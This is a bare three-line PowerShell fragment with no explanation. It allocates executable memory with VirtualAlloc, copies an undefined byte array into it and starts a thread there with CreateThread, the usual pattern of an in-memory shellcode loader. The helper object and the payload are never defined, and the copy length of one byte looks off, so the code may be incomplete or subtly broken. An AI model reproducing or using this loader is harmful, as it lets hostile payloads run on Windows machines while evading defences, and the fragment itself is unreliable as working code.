$p = $k::VirtualAlloc(0, 4096, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 1)
$k::CreateThread(0, 0, $p, 0, 0, 0)
